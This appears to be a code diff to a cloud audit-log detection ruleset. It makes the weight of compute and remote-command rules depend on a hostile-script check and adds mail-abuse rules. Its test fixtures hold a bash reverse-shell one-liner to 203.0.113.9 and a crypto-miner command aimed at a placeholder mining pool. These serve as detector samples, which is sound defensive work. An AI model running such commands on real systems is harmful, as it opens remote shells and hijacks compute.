@@ -1,4 +1,7 @@
+import { carriesHostileScript } from '../commands';
 import type { Rule } from './model';
+
+const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 /** What costs money, what runs, and what is gone. */
 export const RESOURCES: readonly Rule[] = [
@@ -15,8 +18,15 @@ export const RESOURCES: readonly Rule[] = [
     services: /^(ecs|eci|ess|ecd|ehpc|ehpcinstant|pai.*|batchcompute|cs|csk)$/i,
     calls:
       /^(RunInstances|CreateInstance|CreateAutoProvisioningGroup|StartInstances?|CreateContainerGroup.*|BatchCreateContainerGroups|CreateDesktops|CreateCluster|CreateClusterNodePool|ScaleOutCluster|CreateNodes|CreateJob|CreatePool|CreateScalingGroup|CreateScalingConfiguration|EnableScalingGroup|ModifyScalingGroup)$/,
-    weight: 'weak',
-    fires: [{ call: 'Ecs RunInstances', request: { Amount: 100 }, weight: 'weak' }],
+    weight: (event) => (carriesHostileScript(event) ? 'grave' : 'weak'),
+    fires: [
+      { call: 'Ecs RunInstances', request: { Amount: 100 }, weight: 'weak' },
+      {
+        call: 'Ecs RunInstances',
+        request: { UserData: base64('#!/bin/sh\n./x -o stratum+tcp://pool.example:3333') },
+        weight: 'grave',
+      },
+    ],
     silent: [{ call: 'Ecs DescribeInstances' }],
   },
   {
@@ -48,9 +58,17 @@ export const RESOURCES: readonly Rule[] = [
     },
     services: /^(ecs|ecd|swas.*)$/i,
     calls: /^(RunCommand|InvokeCommand|CreateCommand|SendFile|StartTerminalSession)$/,
-    weight: 'strong',
+    // Whoever runs commands every day does not lead a shell into the network.
+    weight: (event) => (carriesHostileScript(event) ? 'grave' : 'strong'),
     burst: 3,
-    fires: [{ call: 'Ecs RunCommand', weight: 'strong' }],
+    fires: [
+      {
+        call: 'Ecs RunCommand',
+        request: { CommandContent: base64('bash -i >& /dev/tcp/203.0.113.9/443 0>&1') },
+        weight: 'grave',
+      },
+      { call: 'Ecs RunCommand', request: { CommandContent: base64('systemctl restart nginx') }, weight: 'strong' },
+    ],
     silent: [{ call: 'Ecs DescribeInvocations' }],
   },
   {
@@ -103,6 +121,39 @@ export const RESOURCES: readonly Rule[] = [
     burst: 20,
     fires: [{ call: 'Dysmsapi SendSms', weight: 'weak' }],
     silent: [{ call: 'Dysmsapi QuerySendDetails' }],
+  },
+  {
+    id: 'mails-sent',
+    kind: 'messages',
+    severity: 'high',
+    technique: 'T1496.004',
+    text: { zh: '通过邮件推送发送了邮件', en: 'Mails were sent through DirectMail' },
+    advice: {
+      zh: '在邮件推送控制台停用被使用的发信地址并修改其 SMTP 密码，告知收到邮件的人，并核对发信域名的信誉。',
+      en: 'Switch off the sender addresses that were used and change their SMTP passwords, then warn those who got the mails in your name.',
+    },
+    services: /^(dm|directmail)$/i,
+    calls: /^(SingleSendMail(V2)?|BatchSendMail|SendTestByTemplate)$/,
+    weight: 'weak',
+    burst: 20,
+    fires: [{ call: 'Dm SingleSendMail', weight: 'weak' }],
+    silent: [{ call: 'Dm SenderStatisticsByTagNameAndBatchID' }],
+  },
+  {
+    id: 'mail-address-made',
+    kind: 'persistence',
+    severity: 'high',
+    technique: 'T1098',
+    text: { zh: '创建了发信地址或设置了其 SMTP 密码', en: 'A sender address was made, or given an SMTP password' },
+    advice: {
+      zh: '删除陌生的发信地址，重设 SMTP 密码：凭它可以继续发信，与 AccessKey 是否有效无关。',
+      en: 'Delete sender addresses that are not yours and set new SMTP passwords: with one, mail is sent whether the AccessKey lives or not.',
+    },
+    services: /^(dm|directmail)$/i,
+    calls: /^(CreateMailAddress|ModifyMailAddress|ModifyPWByDomain)$/,
+    weight: 'weak',
+    fires: [{ call: 'Dm CreateMailAddress', request: { AccountName: 'notice@example.com' }, weight: 'weak' }],
+    silent: [{ call: 'Dm QueryMailAddressByParam' }],
   },
   {
     id: 'dns-changed',
